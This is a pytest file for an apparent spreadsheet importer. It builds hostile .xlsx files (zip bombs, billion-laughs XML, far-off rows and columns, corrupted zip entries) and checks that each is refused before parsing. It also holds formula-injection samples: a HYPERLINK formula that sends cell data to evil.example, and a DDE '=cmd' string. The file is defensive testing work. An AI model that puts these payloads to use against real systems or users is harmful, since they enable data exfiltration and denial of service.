"""Hostile workbooks: zip bombs, lying dimensions, far-away rows and cells, formulas, non-zips.

`workbook` builds an .xlsx from raw sheet XML with zipfile, so a test can make exactly the file
an attacker (or a broken exporter) would, and a 100,000-row workbook in well under a second.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterable, Sequence
from xml.sax.saxutils import escape

import openpyxl
import pytest

from altmatch.io import xlsx_rows
from altmatch.io.limits import MIB, ImportLimits
from altmatch.io.tabular import TableError, read_table_bytes

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_OPEN = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def column_letter(index: int) -> str:
    letters = ""
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def sheet_rows(rows: Iterable[Sequence[str]], *, start: int = 1) -> Iterable[str]:
    """Rows as sheet XML with inline strings (what many exporters write)."""
    for number, cells in enumerate(rows, start=start):
        inner = "".join(
            f'<c r="{column_letter(i)}{number}" t="inlineStr"><is><t>{escape(v)}</t></is></c>'
            for i, v in enumerate(cells, start=1)
            if v
        )
        yield f'<row r="{number}">{inner}</row>'


def workbook(sheet_data: Iterable[str], *, dimension: str | None = "A1", extra: str = "") -> bytes:
    """An .xlsx whose first sheet's <sheetData> holds `sheet_data` (XML fragments)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(SHEET_OPEN.encode())
            if dimension:
                sheet.write(f'<dimension ref="{dimension}"/>'.encode())
            sheet.write(b"<sheetData>")
            for fragment in sheet_data:
                sheet.write(fragment.encode())
            sheet.write(f"</sheetData>{extra}</worksheet>".encode())
    return buffer.getvalue()


def xlsx_from_rows(rows: Iterable[Sequence[str]]) -> bytes:
    return workbook(sheet_rows(rows))


def refusal(data: bytes, limits: ImportLimits | None = None) -> str:
    with pytest.raises(TableError) as caught:
        read_table_bytes(data, "hostile.xlsx", limits=limits or ImportLimits())
    (first, *_) = caught.value.errors
    assert first.file == "hostile.xlsx"
    return str(first)


def never_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Make openpyxl fail the test if it is ever reached: the refusal must come first."""

    def forbidden(*args: object, **kwargs: object) -> None:
        raise AssertionError("openpyxl was asked to open a file that should have been refused")

    monkeypatch.setattr(xlsx_rows.openpyxl, "load_workbook", forbidden)


def test_the_hand_built_workbook_reads_like_any_other() -> None:
    table = read_table_bytes(xlsx_from_rows([("id", "name"), ("C1", "山田 <花子>")]), "a.xlsx")
    assert table.columns == ("id", "name")
    assert [r.cells for r in table.rows] == [("C1", "山田 <花子>")]


def test_a_zip_bomb_over_the_unzipped_limit_is_refused_before_parsing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    padding = " " * (3 * MIB)  # XML whitespace: legal, and unpacks to 3 MiB
    data = workbook([padding])
    assert len(data) < 64 * 1024
    never_parsed(monkeypatch)
    limits = ImportLimits(max_unzipped_bytes=2 * MIB, max_ratio=10**9)
    assert "the workbook unpacks to" in refusal(data, limits)
    assert "the limit is 2,097,152" in refusal(data, limits)


def test_a_part_compressed_absurdly_well_is_refused_before_parsing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    data = workbook([" " * (20 * MIB)])  # about 1000:1, under the default 200 MiB total
    never_parsed(monkeypatch)
    message = refusal(data)
    assert "xl/worksheets/sheet1.xml is compressed" in message
    assert "far beyond any real workbook" in message


def test_a_part_that_unpacks_past_its_declared_size_is_an_error_not_a_bomb() -> None:
    """zipfile stops at the size the directory declares and then fails the CRC check."""
    data = bytearray(workbook(sheet_rows([("id",), ("C1",)])))
    name = b"xl/worksheets/sheet1.xml"
    entry = data.rfind(b"PK\x01\x02", 0, data.rfind(name))  # its central directory entry
    assert entry > 0
    data[entry + 24 : entry + 28] = (10).to_bytes(4, "little")  # "unpacks to 10 bytes"
    assert "not a readable .xlsx workbook" in refusal(bytes(data))


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"id,name\nC1,x\n", "not a readable .xlsx workbook"),
        (b"", "not a readable .xlsx workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "an old .xls or a password-protected"),
    ],
    ids=["csv text", "empty", "old xls"],
)
def test_what_is_not_a_workbook_is_named(data: bytes, expected: str) -> None:
    assert expected in refusal(data)


def test_a_zip_that_is_not_a_workbook_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "hi")
    assert "a zip archive but not an .xlsx workbook" in refusal(buffer.getvalue())


def test_every_cut_of_a_workbook_is_refused_never_half_read() -> None:
    data = xlsx_from_rows([("id", "name"), *((f"C{i}", "x" * 50) for i in range(200))])
    for cut in range(0, len(data), max(1, len(data) // 60)):
        assert "not a readable .xlsx workbook" in refusal(data[:cut])


def test_a_wrong_dimension_does_not_cut_rows_off() -> None:
    rows = [("id",), *((f"C{i}",) for i in range(1, 8))]
    table = read_table_bytes(workbook(sheet_rows(rows), dimension="A1:A2"), "d.xlsx")
    assert [r.cells[0] for r in table.rows] == [f"C{i}" for i in range(1, 8)]


def test_a_row_a_million_rows_down_is_refused_without_walking_far() -> None:
    far = next(iter(sheet_rows([("x",)], start=1_048_576)))
    data = workbook([*sheet_rows([("id",), ("C1",)]), far])
    limits = ImportLimits(max_rows=1000)
    assert "more than 12,000 rows, blank ones included" in refusal(data, limits)


def test_a_cell_in_column_xfd_is_too_many_columns() -> None:
    data = workbook(
        [
            '<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c>'
            '<c r="XFD1" t="inlineStr"><is><t>far</t></is></c></row>'
        ]
    )
    assert "more than 200 columns" in refusal(data)


def test_a_formula_cell_is_refused_with_its_column() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["id", "name"])
    sheet.append(["C1", '=HYPERLINK("http://evil.example/?"&A1,"Click")'])
    buffer = io.BytesIO()
    book.save(buffer)
    message = refusal(buffer.getvalue())
    assert message.startswith("hostile.xlsx:2:B: a formula (=HYPERLINK(")
    assert "type the value itself" in message


def test_text_that_looks_like_a_formula_is_read_as_text() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["id", "name"])
    sheet.append(["C1", "x"])
    cell = sheet["B2"]
    cell.value = "=cmd|' /C calc'!A0"
    cell.data_type = "s"  # what Excel stores for a cell typed as '=cmd...
    buffer = io.BytesIO()
    book.save(buffer)
    table = read_table_bytes(buffer.getvalue(), "t.xlsx")
    assert table.rows[0].cells == ("C1", "=cmd|' /C calc'!A0")


def test_billion_laughs_in_a_sheet_is_refused() -> None:
    entities = (
        '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
        + "]>"
    )
    sheet = SHEET_OPEN.replace("<worksheet", entities + "<worksheet", 1)
    data = workbook([]).replace(b"", b"")  # a valid frame, rebuilt below with the DOCTYPE
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(buffer, "w") as out:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = (
                    sheet + '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&i;</t></is></c>'
                    "</row></sheetData></worksheet>"
                ).encode()
            out.writestr(info.filename, body)
    with pytest.raises(TableError):
        read_table_bytes(buffer.getvalue(), "laughs.xlsx")
